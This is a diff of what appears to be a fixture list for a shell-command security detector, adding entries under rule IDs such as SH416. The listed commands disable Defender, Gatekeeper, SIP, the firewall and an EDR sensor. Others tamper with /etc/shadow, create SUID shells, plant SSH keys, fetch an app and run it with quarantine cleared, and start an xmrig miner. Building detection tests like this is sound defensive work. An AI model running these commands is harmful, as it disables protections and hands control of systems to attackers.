@@ -252,6 +252,7 @@ SEEN = {
         "Set-MpPreference -DisableRealtimeMonitoring $true",
         r"Add-MpPreference -ExclusionPath C:\ ",
         "sudo spctl --master-disable",
+        "curl -sLo a.zip https://x.io/a.zip; unzip -q a.zip; xattr -c App.app; open App.app",
         "csrutil disable",
         "netsh advfirewall set allprofiles state off",
         "sudo systemctl stop falcon-sensor",
@@ -288,7 +289,12 @@ SEEN = {
         "printf x | sudo tee -a /etc/shadow",
         *("chmod u+s /bin/bash", "cp /bin/sh /tmp/sh; sudo chmod 4755 /tmp/sh"),
     ],
-    "SH416": ["./miner -o stratum+tcp://pool.x.io:3333 -u a", 'url = "stratum+ssl://pool.x.io:443"'],
+    "SH416": [
+        "./xmrig -o pool.x.io:3333 -u a",
+        "wget https://github.com/xmrig/xmrig/releases/download/v6/x.tar.gz",
+        "./miner -o stratum+tcp://pool.x.io:3333 -u a",
+        'url = "stratum+ssl://pool.x.io:443"',
+    ],
     "SH417": [
         f"echo 'ssh-ed25519 AAAA{'C3NzaC1lZDI1NTE5' * 4} a' >> ~/.ssh/authorized_keys",
         f"echo ssh-rsa AAAA{'B3NzaC1yc2EAAAAD' * 4} | tee -a /root/.ssh/authorized_keys",
